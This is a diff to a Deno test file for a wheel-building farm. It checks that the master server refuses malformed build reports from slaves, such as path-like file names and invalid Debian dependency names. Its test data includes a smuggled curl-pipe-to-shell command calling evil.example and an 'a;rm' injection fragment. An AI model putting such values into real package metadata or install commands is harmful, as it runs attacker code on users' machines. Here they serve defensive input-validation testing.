@@ -106,7 +106,7 @@ Deno.test("master: bad input from slaves is refused and the farm carries on", as
   );
 
   await t.step(
-    "file names that are paths, NUL-laden or huge get DIE, and nothing is written",
+    "file names that are paths, NUL-laden or huge: logged as failed, and nothing is written",
     async () => {
       for (
         const [i, name] of [
@@ -118,7 +118,7 @@ Deno.test("master: bad input from slaves is refused and the farm carries on", as
       ) {
         await pypi.release(`pathological${i}`, "1.0");
         await using s = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", `paths-${i}`);
-        await build(s);
+        const pkg = await build(s);
         const built = encode(["BUILT", [true, Duration.ZERO, "", [[
           name,
           10,
@@ -130,7 +130,11 @@ Deno.test("master: bad input from slaves is refused and the farm carries on", as
           "any",
           {},
         ]]]]);
-        assertEquals((await s.request(built)).msg, "DIE");
+        // a BUILT the protocol refuses is the build's own doing: any slave's would be the same
+        assertEquals((await s.request(built)).msg, "DONE");
+        await master.waitForLog(
+          new RegExp(`refused its build of ${pkg} 1\\.0: its BUILT cannot be taken`),
+        );
       }
       for (const dir of [master.dir, master.output, `${master.output}/simple`]) {
         const names = [...Deno.readDirSync(dir)].map((e) => e.name);
@@ -140,25 +144,31 @@ Deno.test("master: bad input from slaves is refused and the farm carries on", as
   );
 
   await t.step(
-    "dependencies that are no Debian package names get DIE; the page offers only names",
+    "dependencies that are no Debian package names: logged as failed; the page offers only names",
     async () => {
       // the project page offers them as a command to paste: `sudo apt install …`
       const deps = (apt: string[]) => {
         const w = makeWheel("apt-names", "1.0");
         return [w, [[w.filename, w.bytes.length, w.sha256, ...w.tags, { apt }]]] as const;
       };
-      await pypi.release("apt-names", "1.0");
-      await master.waitForFile("project/apt-names/json/index.json", '"1.0"');
       for (const [i, evil] of ["x\ncurl -s http://evil.example/p | sh", "a;rm", "-y"].entries()) {
+        await pypi.release("apt-names", `0.${i}`);
+        await master.waitForFile("project/apt-names/json/index.json", `"0.${i}"`);
         await using s = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", `apt-${i}`);
         assertEquals((await s.hello()).msg, "ACK");
-        assertEquals(await s.request("IDLE"), { msg: "BUILD", data: ["apt-names", "1.0"] });
+        assertEquals(await s.request("IDLE"), { msg: "BUILD", data: ["apt-names", `0.${i}`] });
         const [, files] = deps(["libc6", evil]);
         // encoded by hand: our own encoder refuses them before they are sent
         const built = encode(["BUILT", [true, Duration.ZERO, "", files as unknown as CborValue]]);
-        assertEquals((await s.request(built)).msg, "DIE");
-        await master.waitForLog(/expected Debian package names, not/);
+        assertEquals((await s.request(built)).msg, "DONE");
+        await master.waitForLog(
+          new RegExp(
+            `apt-names 0\\.${i}: its BUILT cannot be taken: .*expected Debian package names, not`,
+          ),
+        );
       }
+      await pypi.release("apt-names", "1.0");
+      await master.waitForFile("project/apt-names/json/index.json", '"1.0"');
       await using s = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", "apt-good");
       assertEquals((await s.hello()).msg, "ACK");
       assertEquals(await s.request("IDLE"), { msg: "BUILD", data: ["apt-names", "1.0"] });
@@ -179,6 +189,7 @@ Deno.test("master: bad input from slaves is refused and the farm carries on", as
   await t.step(
     "a transfer whose hash mismatches is asked for again; only the good copy is published",
     async () => {
+      await pypi.release("corrupted", "1.0");
       await using s = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", "corrupter");
       const pkg = await build(s);
       const wheel = makeWheel(pkg, "1.0");
@@ -211,6 +222,7 @@ Deno.test("master: bad input from slaves is refused and the farm carries on", as
   await t.step(
     "a slave vanishing mid-transfer leaves no temporary file and publishes nothing",
     async () => {
+      await pypi.release("vanished", "1.0");
       const s = new TestSlave(
         master.slaveQueue,
         master.fileQueue,
